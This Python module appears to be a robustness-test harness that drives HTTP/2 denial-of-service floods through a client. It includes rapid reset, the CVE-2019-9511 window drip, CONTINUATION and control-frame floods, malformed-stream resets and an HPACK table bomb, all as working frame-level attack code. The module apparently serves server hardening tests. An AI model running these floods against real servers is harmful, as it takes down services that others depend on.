"""HTTP/2 with bad intent: what clients send in floods, and containers in their place."""

from . import frames
from .frames import CANCEL, LARGEST, PingFrame, SettingsFrame, raw

MIB = 1 << 20


def pieces(frame, count, together=100):
    """So many frames, several to a piece. `frame`: bytes, or what makes them of a number."""
    for first in range(0, count, together):
        if callable(frame):
            yield b"".join(frame(n) for n in range(first, first + together))
        else:
            yield frame * together


def request_block(client, path="/hang", method="GET"):
    """A field section that uses no table: it may be sent any number of times."""
    encoder = frames.hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode([*client.pseudo(path, method), ("x-padding", "y")])


def headers(number, block, end=True):
    return raw(1, 0x05 if end else 0x04, number, block)


def begin(client):
    client.pump(lambda: client.peer, "SETTINGS")


def window_of_nothing(number, block):
    return headers(number, block) + raw(8, 0, number, bytes(4))


def window_too_large(number, block):
    return headers(number, block) + raw(8, 0, number, LARGEST.to_bytes(4, "big")) * 2


def data_after_the_end(number, block):
    return headers(number, block) + raw(0, 0, number, b"late")


def head_after_the_end(number, block):
    return headers(number, block) * 2


def priority_of_a_wrong_size(number, block):
    return headers(number, block) + raw(2, 0, number, bytes(4))


def priority_on_itself(number, block):
    return headers(number, block) + raw(2, 0, number, number.to_bytes(4, "big") + b"\x10")


SETTINGS = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
FLOODS = {
    "settings": SETTINGS,
    "empty_settings": SettingsFrame(0).serialize(),
    "ping": PingFrame(0, opaque_data=b"floodful").serialize(),
    "ping_ack": PingFrame(0, opaque_data=b"floodful", flags=["ACK"]).serialize(),
    "priority": lambda n: raw(2, 0, 2 * n + 1, bytes(5)),
    "priority_of_one": raw(2, 0, 1, bytes(5)),
    "priority_update": raw(0x10, 0, 0, b"\0\0\0\1u=3"),
    "window_update_by_1": raw(8, 0, 0, b"\0\0\0\1"),
    "unknown_frames": raw(0xBE, 0, 0, b"whatever"),
    "unknown_frames_of_a_stream": raw(0xBE, 0, 1, b"whatever"),
    "goaway": frames.GoAwayFrame(0, last_stream_id=0, error_code=0).serialize(),
    "settings_ack": SettingsFrame(0, flags=["ACK"]).serialize(),
}
MADE_RESETS = [window_of_nothing, window_too_large, data_after_the_end, head_after_the_end, priority_of_a_wrong_size, priority_on_itself]


# MARK: One connection's worth of each kind: `count` bounds its frames


def rapid_reset(client, count):
    block, reset = request_block(client), CANCEL.to_bytes(4, "big")
    client.flood(pieces(lambda n: headers(2 * n + 1, block) + raw(3, 0, 2 * n + 1, reset), count, 50))


def made_reset(made):
    def drive(client, count):
        block = request_block(client)
        client.flood(pieces(lambda n: made(2 * n + 1, block), count, 50))

    return drive


def malformed(client, count):
    encoder = frames.hpack.Encoder()
    encoder.header_table_size = 0
    block = encoder.encode([*client.pseudo(), ("Upper", "case")])
    client.flood(pieces(lambda n: headers(2 * n + 1, block), count, 50))


def control(name):
    return lambda client, count: client.flood(pieces(FLOODS[name], count, 500))


def window_drip(client, count):
    """CVE-2019-9511: a response in DATA frames of one byte."""
    stream = client.request(f"/download?bytes={MIB}")
    client.pump(lambda: stream.status or client.ended, "the head")
    client.flood(pieces(raw(8, 0, stream.number, b"\0\0\0\1"), count, 500))


def window_drip_of_settings(client, count):
    """The window of all streams at once, by one byte and back."""
    for _ in range(50):
        client.request(f"/download?bytes={MIB}")
    client.pump(lambda: client.ended or all(one.status for one in client.streams.values()), "the heads")
    steps = [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: n % 2}).serialize() for n in range(2)]
    client.flood(pieces(lambda n: steps[n % 2], count, 100))


def empty_data(client, count):
    number = client.open()
    client.send(*client.head(number, client.pseudo("/echo", "POST"), end=False))
    client.flood(pieces(raw(0, 0, number), count, 500))


def continuation(size):
    # Literals of a name and a value without indexing, of the whole size of a frame.
    piece = b"" if size == 0 else b"\x00\x01a\x7f\xfa\x7e" + b"v" * (size - 6)

    def drive(client, count):
        number = client.open()
        client.send(raw(1, 0x01, number, client.encoder.encode(client.pseudo())))
        client.flood(pieces(raw(9, 0, number, piece), count // (20 if size else 1), 1 if size else 100))

    return drive


def hpack_bomb(client, count):
    """4 KB in the table, then 15,000 references of a byte each, on streams without a window."""
    first = client.request("/i", fields=[("x-large", "v" * 3900)])
    client.pump(lambda: first.status or first.over or client.ended, "the first response")
    block = client.encoder.encode(client.pseudo("/i")) + b"\xbe" * 15000
    client.flood(pieces(lambda n: headers(first.number + 2 + 2 * n, block), count // 50, 10))


def unread_responses(client, count):
    """As many streams as there may be, without a window, each with a large response."""
    for _ in range(100):
        client.request(f"/download?bytes={20 * MIB}")
    client.pump(lambda: client.ended or all(one.status for one in client.streams.values()), "the heads")
    client.flood([PingFrame(0, opaque_data=bytes(8)).serialize()])


ZERO_WINDOW = frames.settings(initial_window_size=0)
# The settings of the client, and what it does.
DRIVERS = {
    "rapid_reset": ({}, rapid_reset),
    **{f"reset_by_{made.__name__}": ({}, made_reset(made)) for made in MADE_RESETS},
    "malformed_heads": ({}, malformed),
    **{f"flood_of_{name}": ({}, control(name)) for name in FLOODS},
    "window_drip": (ZERO_WINDOW, window_drip),
    "window_drip_by_settings": (ZERO_WINDOW, window_drip_of_settings),
    "empty_data": ({}, empty_data),
    "empty_continuation": ({}, continuation(0)),
    "large_continuation": ({}, continuation(16384)),
    "hpack_bomb": (ZERO_WINDOW, hpack_bomb),
    "unread_responses": (ZERO_WINDOW, unread_responses),
}
